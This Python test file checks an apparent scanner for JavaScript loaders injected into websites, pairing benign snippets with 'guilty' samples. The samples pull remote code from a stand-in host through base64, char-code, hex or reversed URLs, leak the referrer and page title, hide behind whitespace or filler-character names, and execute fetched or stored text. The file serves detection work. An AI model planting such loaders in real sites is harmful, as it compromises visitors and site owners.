"""Second facts beside an address in disguise: for each what honest makers write that comes near it,
for which nobody is accused, and what was put into sites by others.

The shapes of the injected ones were read in public repositories whose files carried them, on
2026-11-28: loaders of what goes by a library's name on a stranger's host, that tell the referrer,
note by a name of chance that they ran, or stand where no editor shows them.
"""

from __future__ import annotations

import pytest

from cyberscan.model.verdict import Outcome, Verdict
from tests.checks.content.reading import b64, codes, hexed
from tests.checks.content.scripting import in_file, on_page
from tests.checks.content.test_injected_script_makers import pack

HOST = "https://cdn.dokura.example"
MADE = "var s=document.createElement('script');s.src={};document.head.appendChild(s);"
MODULE = f"atob('{b64(HOST + '/modul/sorot.js')}')"


def hidden(path: str) -> str:
    return f"atob('{b64(HOST + path)}')"


def not_accused(verdict: Verdict) -> bool:
    return verdict.outcome is Outcome.PASS or verdict.message == "look"


# A library's name on what is loaded from a stranger in disguise.
NAME_HONEST = {
    "what it does": MADE.format(hidden("/menu-utama.min.js")),
    "a word that is a library's name as well": MADE.format(hidden("/tema/bootstrap.min.js")),
    "another word of that sort": MADE.format(hidden("/video.js")),
    "a plugin of a library": MADE.format(hidden("/jquery.jdih-tabel.min.js")),
    "the library and then the theme": MADE.format(hidden("/jquery.min.js"))
    + f"var t=document.createElement('script');t.src={hidden('/tema.js')};"
    "document.head.appendChild(t);",
    "the library for what the theme does with the page": MADE.format(hidden("/swiper.min.js"))
    + "document.querySelector('.salindia').addEventListener('click',function(){geser()});",
    "under a customer's key": MADE.format(hidden("/jquery.min.js?k=JDIH-7731")),
    "with its maker's name": "/* Dokura 3.1 */" + MADE.format(hidden("/jquery.min.js")),
    "packed": pack(MADE.format(f"'{HOST}/jquery-3.7.1.min.js'")),
    "in the clear": MADE.format(f"'{HOST}/jquery.min.js'"),
    "from who serves it to everybody": MADE.format(
        f"atob('{b64('https://code.jquery.com/jquery-3.7.1.min.js')}')"
    ),
}
NAME_GUILTY = {
    "in base64, before the first script": "document.cookie='k17=1;Max-Age=86400;Path=/';(function()"
    f"{{var h=document.createElement('script');h.src={hidden('/lib/jquery/4.7.2/jquery.min.js')};"
    "var s=document.getElementsByTagName('script')[0];s.parentNode.insertBefore(h,s)})();",
    "as soon as there is a body": "(function tunggu(){if(document.body){var s=document."
    f"createElement('script');s.src={hidden('/publik/laman/tinymce.js')};document.body."
    "appendChild(s)}else{setTimeout(tunggu,15)}})();",
    "in letters' codes": MADE.format(f"String.fromCharCode({codes(HOST + '/jquery-ui.js')})"),
    "in escapes, with a version": MADE.format(f"'{hexed(HOST + '/jquery-3.6.0.slim.min.js')}'"),
    "backwards": MADE.format(
        f"'{(HOST + '/assets/lodash.min.js')[::-1]}'.split('').reverse().join('')"
    ),
    "by percent signs": MADE.format(
        "unescape('" + "".join(f"%{ord(c):02x}" for c in HOST + "/select2.full.min.js") + "')"
    ),
    "once for each visitor": "if(!localStorage.s1){localStorage.s1=1;"
    + MADE.format(hidden("/jquery.validate.min.js"))
    + "}",
    "a file named by nothing but its ending": MADE.format(
        f"String.fromCharCode({codes(HOST + '/')})+'/js.min.js?s=k&'"
    ),
}

# An address that is told where the visitor comes from.
FROM_HONEST = {
    "a counter that knows its customer": MADE.format(
        hidden("/hitung.js?situs=jdih-kab&dari=") + "+encodeURIComponent(document.referrer)"
    ),
    "a licence that is asked for by host": MADE.format(
        hidden("/lisensi.js?h=") + "+location.hostname"
    ),
    "by page": MADE.format(hidden("/bantuan.js?u=") + "+encodeURIComponent(location.href)"),
    "in the clear": MADE.format(f"'{HOST}/hitung.js?r='+encodeURIComponent(document.referrer)"),
    "a referrer looked at, and not told": "if(document.referrer){" + MADE.format(MODULE) + "}",
    "of a program that works with the page": "document.querySelector('.jejak').addEventListener("
    "'click',function(){" + MADE.format(hidden("/j.js?r=") + "+document.referrer") + "});",
    "with its maker's name": "/* Penghitung Dokura */"
    + MADE.format(hidden("/hitung.js?r=") + "+document.referrer"),
    "found again by its id": MADE.format(hidden("/hitung.js?r=") + "+document.referrer")
    + "s.id='dokura-hitung';",
}
FROM_GUILTY = {
    "with the words of the page": "var d=document,"
    "s=d.createElement('script');s.src="
    + hidden("/sFnnPFHm?&se_referrer=")
    + "+encodeURIComponent(d.referrer)+'&default_keyword='+encodeURIComponent(d.title);"
    "d.currentScript.parentNode.insertBefore(s,d.currentScript)",
    "the page as the referrer of what comes": "!function(o,w,d,l){setTimeout(function(){o.s=d."
    f"createElement('script'),o.s.src={hidden('/lacak/skrip.js?referrer=')}+l.href,"
    "d.body.appendChild(o.s)},1e3)}({},window,document,location);",
    "by a name of its own": "var r=encodeURIComponent(document.referrer);"
    + MADE.format(hidden("/muat.js?dari=") + "+r"),
    "from codes": MADE.format(
        f"String.fromCharCode({codes(HOST + '/tds.php?ref=')})+document.referrer"
    ),
    "in base64 once more": MADE.format(hidden("/masuk.js?q=") + "+btoa(document.referrer)"),
    "backwards": MADE.format(
        f"'{(HOST + '/arah.js?u=')[::-1]}'.split('').reverse().join('')+escape(document.referrer)"
    ),
    "for telephones": "if(/Android|iPhone/.test(navigator.userAgent)){"
    + MADE.format(hidden("/ponsel.js?r=") + "+encodeURIComponent(document.referrer)")
    + "}",
}

# A note that the script ran, by a name of chance.
NOTE_HONEST = {
    "by its maker's name": "if(!window.dokuraMuat){window.dokuraMuat=1;"
    + MADE.format(MODULE)
    + "}",
    "by a name in a list": "if(!window['__dokura_3']){window['__dokura_3']=true;"
    + MADE.format(MODULE)
    + "}",
    "for the next visit": "if(!localStorage.getItem('tur-situs')){localStorage.setItem('tur-situs',"
    "'1');" + MADE.format(MODULE) + "}",
    "a customer's key, no name": "var kunci='4f1d77aa02c9be31';window.dokura={kunci:kunci};"
    + MADE.format(MODULE),
    "a sum of what is loaded": "var jumlah='9f86d081884c7d65';" + MADE.format(MODULE),
    "a date": "if(!window['20261128']){window['20261128']=1;" + MADE.format(MODULE) + "}",
    "a short one of a builder": "if(!window['a81f']){window['a81f']=1;" + MADE.format(MODULE) + "}",
    "of a program that works with the page": "if(!window['4f1d77aa02c9be31']){window["
    "'4f1d77aa02c9be31']=1;document.querySelector('.menu-utama').addEventListener('click',function"
    "(){this.classList.toggle('buka')});" + MADE.format(MODULE) + "}",
}
NOTE_GUILTY = {
    "of the window, by another name": "(function(){var id='136c1e07507f4a97';if(window[id]){return}"
    "window[id]=true;" + MADE.format(MODULE) + "})();",
    "of the window, where it is asked": "if(!window['b07c55e1d2f94c3a']){window['b07c55e1d2f94c3a']"
    "=1;" + MADE.format(MODULE) + "}",
    "as a member": "if(!self.e9d107c3b5a2){self.e9d107c3b5a2=!0;" + MADE.format(MODULE) + "}",
    "for the next visit": "if(!localStorage.getItem('77ad0e61c2b9f4d8')){localStorage.setItem("
    "'77ad0e61c2b9f4d8',1);" + MADE.format(MODULE) + "}",
    "in the session": "var k='0c4be19a7f36d528';if(!sessionStorage[k]){sessionStorage[k]='y';"
    + MADE.format(MODULE)
    + "}",
    "in codes, of the whole": "const z='d41d8cd98f00b204';if(!(globalThis[z])){globalThis[z]=1;"
    + MADE.format(f"String.fromCharCode({codes(HOST + '/modul.js')})")
    + "}",
}

# What no editor shows.
FAR = " " * 150
MENU = (
    "document.querySelectorAll('.menu-utama .anak').forEach(function(b){b.addEventListener('click',"
    "function(){b.classList.toggle('buka')})});"
)
AFTER = "\nfunction geser(e){document.querySelector('.salindia').style.left=e+'px'}\n"
SIGHT_HONEST = {
    "set in by blanks at the beginning of a line": MENU + "\n" + FAR + MADE.format(MODULE),
    "by tabs, and behind few blanks": MENU
    + "\n\t\t\t"
    + MADE.format(MODULE)
    + " " * 60
    + "var a=1;",
    "a comment far on the right": MENU + FAR + "// mulai\n" + MADE.format(MODULE),
    "far on the right what hides nothing": MADE.format(MODULE) + FAR + "mulai();" + AFTER,
    "on a later line": MENU + FAR + "mulai();\n" + MADE.format(MODULE) + AFTER,
    "letters of another script as names": "var 메뉴=document.createElement('script');메뉴.src="
    + MODULE
    + ";document.head.appendChild(메뉴);",
    "a filler in a text": "var kosong='\u3164';" + MADE.format(MODULE),
    "an accent in a name": "var données='\u3164 ';" + MADE.format(MODULE),
}
SIGHT_GUILTY = {
    "on the right of other code": MENU + FAR + MADE.format(MODULE) + AFTER,
    "by tabs": MENU + "\t" * 120 + MADE.format(MODULE) + AFTER,
    "on the right of a function's end": "function tutup(e){e.hidden=true}"
    + FAR
    + MADE.format(f"String.fromCharCode({codes(HOST + '/modul/sorot.js')})")
    + AFTER,
    "on the right of the last line": AFTER + MENU + FAR + f"import({MODULE})",
    "a name of a filler": "var \u3164=document.createElement('script');document.body.appendChild("
    "\u3164);\u3164.src=" + MODULE,
    "a half-width one, in a file": MENU
    + "(function(){var \uffa0=document.createElement('script');\uffa0.src="
    + f"'{hexed(HOST + '/modul/sorot.js')}'"
    + ";document.head.appendChild(\uffa0)})();"
    + AFTER,
    "behind a blank line and a loop": "for(var n=0;n<2;n++){"
    + MENU
    + "}"
    + FAR
    + MADE.format(f"'{(HOST + '/modul/sorot.js')[::-1]}'.split('').reverse().join('')")
    + AFTER,
}
HONEST = {"name": NAME_HONEST, "from": FROM_HONEST, "note": NOTE_HONEST, "sight": SIGHT_HONEST}
GUILTY = {"name": NAME_GUILTY, "from": FROM_GUILTY, "note": NOTE_GUILTY, "sight": SIGHT_GUILTY}


@pytest.mark.parametrize(
    ("fact", "name"), [(fact, name) for fact, rows in HONEST.items() for name in rows]
)
def test_what_makers_write_accuses_nobody(fact: str, name: str) -> None:
    assert not_accused(on_page(HONEST[fact][name], ""))
    assert not_accused(in_file(HONEST[fact][name], ""))


@pytest.mark.parametrize(
    ("fact", "name"), [(fact, name) for fact, rows in GUILTY.items() for name in rows]
)
def test_what_others_put_into_sites_does(fact: str, name: str) -> None:
    assert on_page(GUILTY[fact][name], "").message == "loader"
    assert in_file(GUILTY[fact][name], "").message == "loader"


# What runs as the text of a handler.
PUT = "var e=document.createElement('a');e.setAttribute({});e.click();"
HANDLER_HONEST = {
    "a text in the clear": PUT.format("'onclick','geser(1)'"),
    "a function's name": PUT.format("'onclick',nama+'()'"),
    "what is kept, as its class": "var t=localStorage.getItem('tema');"
    + PUT.format("'class',atob(t)"),
    "what is kept, as its title": PUT.format("'title',atob(sessionStorage.judul)"),
    "a link that robots are not shown": PUT.format("'href',atob(document.body.dataset.t)"),
    "a class that begins so": PUT.format("'once',atob(localStorage.k)"),
}
HANDLER_GUILTY = {
    "of a click": "var t=localStorage.getItem('k1');if(t){" + PUT.format("'onclick',atob(t)") + "}",
    "of the session": PUT.format("'onclick',atob(sessionStorage.k1)"),
    "of a picture that fails": "var i=document.createElement('img');i.setAttribute('onerror',"
    "atob(localStorage.k1));i.src='x';",
    "of what comes": "var o=localStorage['k1'],s=document.createElement('svg');s.setAttribute("
    "'onload',window.atob(o));document.body.appendChild(s);",
    "by the store's own method": PUT.format("'onfocus',atob(localStorage.getItem('k1'))"),
    "beside a loader": "var t=localStorage.getItem('136c');if(t){"
    + PUT.format("'onclick',atob(t)")
    + "localStorage.removeItem('136c')}"
    + MADE.format(MODULE),
}


@pytest.mark.parametrize("name", HANDLER_HONEST)
def test_attributes_that_are_no_handlers_of_what_was_kept(name: str) -> None:
    assert not_accused(on_page(HANDLER_HONEST[name], ""))
    assert not_accused(in_file(HANDLER_HONEST[name], ""))


@pytest.mark.parametrize("name", HANDLER_GUILTY)
def test_what_was_kept_as_the_text_of_a_handler(name: str) -> None:
    assert on_page(HANDLER_GUILTY[name], "").message in {"kept", "loader"}
    assert in_file(HANDLER_GUILTY[name], "").message in {"kept", "loader"}


# A script that is made of what an address in disguise answers.
ASK = "fetch({}).then(function(r){{return r.text()}}).then(function(t){{{}}});"
RUN = "var s=document.createElement('script');s.{}=t;document.head.appendChild(s)"
ANSWER_HONEST = {
    "shown as text": ASK.format(MODULE, "document.title=t"),
    "put into a box": ASK.format(MODULE, "var d=document.createElement('div');d.textContent=t"),
    "from where all can see it": ASK.format(f"'{HOST}/m.js'", RUN.format("text")),
    "from the site": ASK.format("'/js/inti.js'", RUN.format("textContent")),
    "scripts of the site's own pages made anew": "document.querySelectorAll('#isi script').forEach("
    "function(a){var s=document.createElement('script');s.text=a.text;a.replaceWith(s)});",
    "what a banner of consent kept back": "document.querySelectorAll('[data-izin]').forEach("
    "function(e){var s=document.createElement('script');s.textContent=e.textContent;"
    "e.replaceWith(s)});",
}
ANSWER_GUILTY = {
    "its text": ASK.format(MODULE, RUN.format("text")),
    "its contents": ASK.format(MODULE, RUN.format("textContent")),
    "its inner text": ASK.format(
        f"String.fromCharCode({codes(HOST + '/m')})", RUN.format("innerText")
    ),
    "by an older request": f"var x=new XMLHttpRequest();x.open('GET',{MODULE});"
    "x.onreadystatechange=function(){if(x.readyState==4){var s=document.createElement('script');"
    "s.text=x.responseText;document.body.appendChild(s)}};x.send();",
    "awaited": f"(async()=>{{const r=await fetch({MODULE}),s=document.createElement('script');"
    "s.textContent=await r.text();document.head.append(s)})();",
    "backwards": ASK.format(
        f"'{(HOST + '/m.js')[::-1]}'.split('').reverse().join('')", RUN.format("text")
    ),
}


@pytest.mark.parametrize("name", ANSWER_HONEST)
def test_answers_that_are_no_disguised_scripts(name: str) -> None:
    assert not_accused(on_page(ANSWER_HONEST[name], ""))
    assert not_accused(in_file(ANSWER_HONEST[name], ""))


@pytest.mark.parametrize("name", ANSWER_GUILTY)
def test_scripts_of_what_a_disguised_address_answers(name: str) -> None:
    assert on_page(ANSWER_GUILTY[name], "").message in {"loader", "smuggled"}
    assert in_file(ANSWER_GUILTY[name], "").message in {"loader", "smuggled"}
